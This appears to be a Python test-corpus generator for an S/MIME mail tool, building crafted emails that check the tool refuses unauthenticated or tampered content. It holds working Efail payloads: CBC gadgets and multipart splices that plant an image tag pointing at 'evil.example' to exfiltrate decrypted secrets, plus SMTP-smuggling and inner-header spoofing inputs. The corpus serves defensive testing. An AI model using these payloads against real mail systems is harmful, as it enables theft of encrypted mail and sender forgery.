"""Encrypted content that somebody bends or puts beside his own, and who answers for it (5, 14, 37)."""

from .. import algorithms, cms, oids
from ..der import algorithm, octets
from ..keys import identity
from ..mime import (
    ENTITY,
    UNSIGNED,
    auth_enveloped,
    enveloped,
    mail,
    multipart,
    multipart_signed,
    opaque,
)
from .content import ANYWAY, KEY, SECRET, SHUT, key_of


def add(corpus):
    alice, bob = identity("alice"), identity("bob")
    splices(corpus, alice, bob)
    who_signs(corpus, alice, bob)


def gadget(iv, first, known, wanted):
    """Two blocks, of which the second decrypts to what is wanted (Efail 4.2)."""
    return algorithms.xor(algorithms.xor(iv, known), wanted.ljust(16)) + first


def splices(corpus, alice, bob):
    html = (
        b"Content-Type: text/html; charset=us-ascii\r\n\r\n"
        + b"<p>The secret word is seal.</p>\r\n" * 3
    )
    key, iv = key_of("splice"), algorithms.stream("splice", 16)
    recipients = [cms.key_transport(bob, key)]
    encrypted = algorithms.cbc_encrypt(key, iv, html)
    gadgets = b"".join(
        gadget(iv, encrypted[:16], html[:16], wanted)
        for wanted in (b"<img alt='", b"' src='//evil.ex", b"ample/?")
    )
    # The header stays what it is; then the attacker's tag, then the message once more.
    spliced = encrypted[:64] + gadgets + encrypted
    data = cms.enveloped_data(
        recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), spliced)
    )
    plain = algorithms.cbc_decrypt(key, iv, spliced)
    assert b"' src='//evil.ex" in plain and plain.endswith(
        algorithms.cbc_decrypt(key, iv, encrypted)[-16:]
    )
    corpus.stays_shut(
        "05-splice.eml",
        5,
        "an image tag spliced into CBC content, in front of the secret",
        mail(enveloped(data)),
        KEY,
        [1],
        alike="bent",
        verdict="unsigned",
        never="secret word",
    )
    corpus.opens(
        "05-splice.eml",
        5,
        "and with --allow-unauthenticated, for that is asked for",
        None,
        ANYWAY,
        verdict="unsigned",
        integrity="none",
    )
    # Mallory's own signature around it proves nothing about what is inside.
    dave = identity("dave")
    outer = enveloped(data)
    around = cms.signed_by(
        dave,
        outer,
        detached=True,
        sign=cms.by_ecdsa(dave.key),
        signature=algorithm(oids.ECDSA["sha256"]),
    )
    corpus.stays_shut(
        "05-splice-signed-outside.eml",
        5,
        "the spliced content, signed from outside by whoever spliced it",
        mail(multipart_signed(outer, around), replaced={"From": ["From: dave@example.com"]}),
        KEY,
        [1],
        never="secret word",
    )
    signed = multipart_signed(html, cms.signed_by(alice, html, detached=True))
    encrypted = algorithms.cbc_encrypt(key, iv, signed)
    at = (signed.index(b"<p>") + 16) // 16 * 16
    spliced = (
        encrypted[:at]
        + gadget(iv, encrypted[:16], signed[:16], b"<img src='//evil")
        + encrypted[at:]
    )
    data = cms.enveloped_data(
        recipients, cms.encrypted_content(oids.AES_CBC[16], octets(iv), spliced)
    )
    # That there is a signature inside is not told either: the answer is that to any bent content.
    corpus.stays_shut(
        "05-splice-signed.eml",
        5,
        "the same, inside signed text: the signature does not hold",
        mail(enveloped(data)),
        KEY,
        [1],
        verdict="unsigned",
        alike="bent",
        never="secret word",
    )
    corpus.opens(
        "05-signed.eml",
        5,
        "signed, then encrypted with AES-CBC",
        mail(enveloped(cms.enveloped_cbc(recipients, key, signed))),
        KEY,
        verdict="valid",
        signature=["valid"],
    )
    # Efail 4.1: no cryptography broken, only parts put side by side.
    parts = [
        b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/?\r\n",
        enveloped(cms.enveloped_cbc(recipients, key, html)),
        b"Content-Type: text/html\r\n\r\n'>\r\n",
    ]
    corpus.stays_shut(
        "05-direct.eml",
        5,
        "the encrypted part between two of the attacker's",
        mail(multipart(parts)),
        KEY,
        SHUT,
        never="secret word",
    )
    corpus.stays_shut(
        "05-direct-gcm.eml",
        5,
        "the same with AES-GCM",
        mail(
            multipart(
                [parts[0], auth_enveloped(cms.enveloped_gcm(recipients, key, html)), parts[2]]
            )
        ),
        KEY,
        [0, *SHUT],
        output=None,
    )


def who_signs(corpus, alice, bob):
    key = key_of("inside")
    recipients = [cms.key_transport(bob, key)]

    def encrypted(entity):
        return enveloped(cms.enveloped_cbc(recipients, key, entity))

    unsigned = mail(encrypted(ENTITY))
    corpus.stays_shut(
        "05-unsigned.eml",
        5,
        "AES-CBC, and nobody signs",
        unsigned,
        KEY,
        [1],
        alike="bent",
        verdict="unsigned",
        integrity="none",
        never=SECRET,
    )
    corpus.opens(
        "05-unsigned.eml",
        5,
        "and with --allow-unauthenticated",
        None,
        ANYWAY,
        verdict="unsigned",
        integrity="none",
    )
    signed = multipart_signed(
        ENTITY, cms.signed_by(alice, ENTITY, detached=True), boundary="=_inner"
    )
    part = mail(encrypted(multipart([UNSIGNED, signed])))
    corpus.stays_shut(
        "05-signed-partly.eml",
        5,
        "AES-CBC around a signed part and an unsigned one",
        part,
        KEY,
        [1],
        never="9000",
    )
    bent = signed.replace(b"100 to", b"900 to")
    corpus.stays_shut(
        "05-signed-wrongly.eml",
        5,
        "AES-CBC around a signature that does not hold",
        mail(encrypted(bent)),
        KEY,
        [1],
        verdict="unsigned",
        alike="bent",
        never="Please pay",
    )
    stranger = mail(encrypted(signed), replaced={"From": ["From: bob@example.com"]})
    corpus.case(
        "05-signed-by-other.eml",
        5,
        "AES-CBC around a good signature of somebody else's: written, and told",
        stranger,
        "open",
        KEY,
        1,
        verdict="invalid",
        signature=["valid"],
        address=["mismatch"],
        output=True,
    )
    outside = encrypted(signed)
    corpus.opens(
        "05-triple.eml",
        5,
        "signed, encrypted, signed again",
        mail(multipart_signed(outside, cms.signed_by(alice, outside, detached=True))),
        KEY,
        verdict="valid",
        signature=["valid", "valid"],
    )
    outside = encrypted(ENTITY)
    corpus.stays_shut(
        "05-signed-outside.eml",
        5,
        "Alice signs what is encrypted, and nobody what is inside",
        mail(multipart_signed(outside, cms.signed_by(alice, outside, detached=True))),
        KEY,
        [0, 1],
        output=None,
    )
    inner_header(corpus, alice, bob)
    several(corpus, alice, bob)
    # RFC 5321 4.5.2: what was hidden from the relays comes out as it was, and the next hop has to stuff it.
    smuggled = ENTITY + b"\n.\r\nMAIL FROM:<mallory@evil.example>\r\n"
    key_inside = key_of("smuggled")
    corpus.opens(
        "37-smuggled.eml",
        37,
        "an end of data inside encrypted content comes out unchanged",
        mail(
            auth_enveloped(
                cms.enveloped_gcm([cms.key_transport(bob, key_inside)], key_inside, smuggled)
            )
        ),
        KEY,
    )


def inner_header(corpus, alice, bob):
    """A header inside may not speak over the outer one, against which the address was judged."""
    for word, field in [
        ("from", b"From: ceo@example.com\r\n"),
        ("sender", b"Sender: ceo@example.com\r\n"),
        ("bcc", b"Bcc: ceo@example.com\r\n"),
        ("folded", b"From:\r\n ceo@example.com\r\n"),
        ("reply-to", b"Reply-To: ceo@example.com\r\n"),
    ]:
        inner, key = field + ENTITY, key_of(word)
        secret = [cms.key_transport(bob, key)]
        signed = cms.signed_by(alice, inner)
        for kind, entity in [
            ("encrypted", auth_enveloped(cms.enveloped_gcm(secret, key, inner))),
            ("signed", opaque(signed)),
            ("detached", multipart_signed(inner, cms.signed_by(alice, inner, detached=True))),
            ("both", auth_enveloped(cms.enveloped_gcm(secret, key, opaque(signed)))),
        ]:
            if word in ("from", "folded") or kind == "signed":
                # Whoever acts on exit 0 takes the sender from what was written.
                corpus.case(
                    f"14-inner-{word}-{kind}.eml",
                    14,
                    f"what is {kind} begins with {word} of somebody else",
                    mail(entity),
                    "open",
                    KEY,
                    [0, 1, 65],
                    never="ceo@example.com" if word in ("from", "folded") else None,
                    output=None,
                )


def several(corpus, alice, bob):
    """Parts that were encrypted or signed apart, put into one message."""
    one, other = key_of("one"), key_of("other")

    def encrypted(key, entity):
        return auth_enveloped(cms.enveloped_gcm([cms.key_transport(bob, key)], key, entity))

    signed = multipart_signed(
        ENTITY, cms.signed_by(alice, ENTITY, detached=True), boundary="=_inner"
    )
    for word, parts in {
        "two-encrypted": [encrypted(one, ENTITY), encrypted(other, UNSIGNED)],
        "signed-and-encrypted": [signed, encrypted(other, UNSIGNED)],
        "encrypted-and-signed": [encrypted(other, UNSIGNED), signed],
        "encrypted-signed-and-unsigned": [encrypted(one, signed), encrypted(other, UNSIGNED)],
        "unsigned-and-encrypted-signed": [encrypted(other, UNSIGNED), encrypted(one, signed)],
    }.items():
        corpus.case(
            f"13-{word}.eml",
            13,
            f"parts put together: {word.replace('-', ' ')}",
            mail(multipart(parts)),
            "open",
            KEY,
            [1, 65] if "signed" in word else [0, 1, 65],
            output=None,
        )
